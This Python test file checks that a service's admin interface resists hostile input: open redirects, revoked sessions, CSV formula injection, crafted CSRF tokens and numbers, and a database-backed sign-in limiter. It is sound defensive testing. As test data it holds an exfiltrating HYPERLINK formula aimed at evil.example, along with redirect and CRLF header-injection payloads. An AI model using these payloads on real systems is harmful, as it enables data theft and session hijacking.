"""Hostile input to the admin over a real socket (issue 16): where sign-in may send you, sessions the
server can end, CSV cells a spreadsheet would run, crafted numbers and CSRF tokens, and a sign-in
limiter that holds under concurrent requests, across processes and restarts."""

from __future__ import annotations

import csv
import io
import json
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta

import pytest
from sqlalchemy import select, update
from werkzeug.serving import make_server

from accounts.tokens import create_token
from accounts.users import update_user
from rollout.gate_store import get_gate
from rollout.store.models import AdminSession, utcnow
from service.app import create_app
from service.client import ApiClient
from service.settings import ServiceSettings
from tests.dashboard_fixtures import PASSWORDS, page_png
from tests.raw_http import AdminBrowser, csrf_from


def store_of(app):
    return app.extensions["ocrgate"].store


def signed_in(base: str, username: str) -> AdminBrowser:
    browser = AdminBrowser(base)
    assert browser.sign_in(username, PASSWORDS[username]).status == 302
    assert browser.get("/admin/").status == 200
    return browser


def still_signed_in(base: str, cookie: str) -> bool:
    """Whether a copy of a session cookie still opens the admin (it redirects to sign-in if not)."""
    reply = AdminBrowser(base, cookie=cookie).get("/admin/")
    assert reply.status in (200, 302)
    return reply.status == 200


# --- 3: sign-in sends you only to a page of this site -----------------------------------------------

@pytest.mark.parametrize("next_url", [
    "/\t/evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example/admin/",
    "/ /evil.example", "/%09/evil.example", "/x\r\nSet-Cookie: stolen=1", "javascript:alert(1)", "admin/", "/\x00/x",
])
def test_sign_in_never_redirects_off_site(live_admin, next_url):
    _, base = live_admin
    reply = AdminBrowser(base).sign_in("viv", PASSWORDS["viv"], next_url)
    assert reply.status == 302, reply.text
    assert reply.headers["Location"] in ("/admin/", f"{base}/admin/")
    assert "stolen" not in str(reply.headers)


def test_sign_in_keeps_a_same_site_next_page(live_admin):
    _, base = live_admin
    reply = AdminBrowser(base).sign_in("viv", PASSWORDS["viv"], "/admin/audit?gate=ocr-engine")
    assert reply.status == 302 and reply.headers["Location"].endswith("/admin/audit?gate=ocr-engine")


# --- 5: sessions the server can end ----------------------------------------------------------------

def test_a_session_cookie_is_dead_after_sign_out(live_admin):
    _, base = live_admin
    browser = signed_in(base, "viv")
    copied = browser.cookie
    assert browser.post("/admin/logout", {}, page="/admin/").status == 302
    assert not still_signed_in(base, copied)


@pytest.mark.parametrize("change", [{"disabled": True}, {"role": "operator"}, {"password": "a brand new password"}])
def test_changing_a_user_ends_their_sessions(live_admin, change):
    app, base = live_admin
    viewer, other = signed_in(base, "viv"), signed_in(base, "ops")
    update_user(store_of(app), "viv", **change)
    assert not still_signed_in(base, viewer.cookie)
    assert still_signed_in(base, other.cookie)


def test_saving_a_user_unchanged_keeps_their_sessions(live_admin):
    _, base = live_admin
    viewer, boss = signed_in(base, "viv"), signed_in(base, "boss")
    assert boss.post("/admin/users/viv", {"role": "viewer"}, page="/admin/users/").status == 302
    assert still_signed_in(base, viewer.cookie)
    assert boss.post("/admin/users/viv", {"role": "viewer", "disabled": "1"}, page="/admin/users/").status == 302
    assert not still_signed_in(base, viewer.cookie)


def test_an_admin_sees_and_revokes_sessions(live_admin):
    app, base = live_admin
    viewer, boss = signed_in(base, "viv"), signed_in(base, "boss")
    page = boss.get("/admin/users/")
    assert 'id="sessions"' in page.text and "viv" in page.text.split('id="sessions"', 1)[1]
    with store_of(app).session() as session:
        ids = list(session.scalars(select(AdminSession.id).where(AdminSession.revoked_at.is_(None))))
    assert len(ids) == 2
    viewer_session = min(ids)  # viv signed in first
    assert boss.post(f"/admin/users/sessions/{viewer_session}/revoke", {}, page="/admin/users/").status == 302
    assert not still_signed_in(base, viewer.cookie)
    assert still_signed_in(base, boss.cookie)


@pytest.mark.parametrize("column, age", [("last_seen_at", timedelta(minutes=31)), ("expires_at", timedelta(0))])
def test_sessions_end_when_idle_or_too_old(live_admin, column, age):
    app, base = live_admin
    viewer = signed_in(base, "viv")
    with store_of(app).session() as session:
        session.execute(update(AdminSession).values({column: utcnow() - age - timedelta(seconds=1)}))
    assert not still_signed_in(base, viewer.cookie)


# --- 6: CSV exports do not hand spreadsheets formulas ------------------------------------------------

def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_export_neutralises_formulas_sent_through_the_api(live_admin):
    app, base = live_admin
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    token = create_token(store_of(app), "hostile")
    ApiClient(base, token).ocr(page_png(["TOTAL 1.00"]), unit=formula, category="+cmd")
    assert app.extensions["ocrgate"].shadows.drain(60)
    viewer = signed_in(base, "viv")
    rows = list(csv.DictReader(io.StringIO(viewer.get("/admin/analysis/pairs?format=csv").text)))
    hostile = [row for row in rows if row["category"].endswith("+cmd")]
    assert len(hostile) == 1
    assert hostile[0]["unit"] == "'" + formula and hostile[0]["category"] == "'+cmd"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or is_number(value), value
    exact = [row for row in json.loads(viewer.get("/admin/analysis/pairs?format=json").text)
             if row["category"] == "+cmd"]
    assert exact[0]["unit"] == formula  # JSON is data, not a spreadsheet: kept exactly


# --- 7: crafted numbers and CSRF tokens are a 4xx, never a 500 ---------------------------------------

@pytest.mark.parametrize("token", ["\u00e9t\u00e9", "\u202e", "x" * 5000])
def test_a_crafted_csrf_token_is_a_403(live_admin, token):
    _, base = live_admin
    browser = signed_in(base, "ops")
    reply = browser.request("POST", "/admin/gates/ocr-engine/kill", {"csrf_token": token})
    assert reply.status == 403 and "CSRF" in reply.text


@pytest.mark.parametrize("path", ["/admin/analysis/traffic?hours=%E2%91%A0", "/admin/analysis/traffic?hours=%C2%B2",
                                  "/admin/analysis/pairs?min_cer_percent=1e309", "/admin/analysis/pairs?kind=bogus"])
def test_crafted_query_numbers_and_filters_are_a_400(live_admin, path):
    _, base = live_admin
    reply = signed_in(base, "viv").get(path)
    assert reply.status == 400, reply.status


@pytest.mark.parametrize("value", ["inf", "1e308", "nan", "\u0665"])
def test_crafted_percentages_are_a_400(live_admin, value):
    _, base = live_admin
    browser = signed_in(base, "ops")
    reply = browser.post("/admin/gates/ocr-engine/apply", {"version": "2", "stage": "rollout", "percent": value},
                         page="/admin/gates/ocr-engine")
    assert reply.status == 400 and "percent must be a number from 0 to 100" in reply.text


# --- 8: the sign-in limiter lives in the database ------------------------------------------------------

def _serve(app):
    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_port}"


def _second_process(app):
    """Another service on the same database, as a second process behind a load balancer would be."""
    settings = ServiceSettings(database_url=store_of(app).url, secret_key="k" * 64, auto_rollback=False,
                               start_workers=False)
    return create_app(settings)


def test_concurrent_wrong_passwords_get_five_checks_across_processes_and_restarts(live_admin):
    app, base = live_admin
    other = _second_process(app)
    other_server, other_base = _serve(other)
    clients = [f"127.0.0.{n}" for n in range(2, 6)]  # 4 client addresses, 4 tries each, half to each server
    tries = [(AdminBrowser(base if n % 2 else other_base, source=clients[n % 4]), n) for n in range(16)]
    barrier = threading.Barrier(len(tries))

    def wrong(attempt):
        browser, n = attempt
        token = csrf_from(browser.get("/admin/login").text)
        barrier.wait(60)
        return browser.request("POST", "/admin/login", {"csrf_token": token, "username": "viv",
                                                        "password": f"wrong {n}"}).status

    try:
        with ThreadPoolExecutor(len(tries)) as pool:
            statuses = list(pool.map(wrong, tries))
        assert sorted(statuses) == [401] * 5 + [429] * 11  # 401: the password was checked
    finally:
        other_server.shutdown()
        other.extensions["ocrgate"].close()

    restarted = _second_process(app)  # a new process on the same database remembers
    server, restarted_base = _serve(restarted)
    try:
        right = AdminBrowser(restarted_base, source="127.0.0.9").sign_in("viv", PASSWORDS["viv"])
        assert right.status == 429
        assert AdminBrowser(restarted_base, source="127.0.0.9").sign_in("ops", PASSWORDS["ops"]).status == 302
    finally:
        server.shutdown()
        restarted.extensions["ocrgate"].close()


def test_a_success_clears_the_count(live_admin):
    _, base = live_admin
    browser = AdminBrowser(base, source="127.0.0.7")
    assert [browser.sign_in("ops", "wrong password").status for _ in range(4)] == [401] * 4
    assert browser.sign_in("ops", PASSWORDS["ops"]).status == 302
    assert [AdminBrowser(base, source="127.0.0.7").sign_in("ops", "wrong").status for _ in range(6)] \
        == [401] * 5 + [429]


# --- 9: the admin checks gate labels with the API's rule ----------------------------------------------

@pytest.mark.parametrize("field, value", [("allow_units", "shop\u202e1"), ("deny_units", "a\x7fb"),
                                          ("categories", "c" * 65), ("categories", "receipts\u200b")])
def test_bad_gate_labels_from_the_admin_are_a_400_and_nothing_changes(live_admin, field, value):
    app, base = live_admin
    before = get_gate(store_of(app), "ocr-engine")
    reply = signed_in(base, "ops").post("/admin/gates/ocr-engine/apply",
                                        {"version": str(before.version), "stage": "shadow", field: value},
                                        page="/admin/gates/ocr-engine")
    assert reply.status == 400 and ("unit" in reply.text or "categor" in reply.text)
    assert get_gate(store_of(app), "ocr-engine") == before
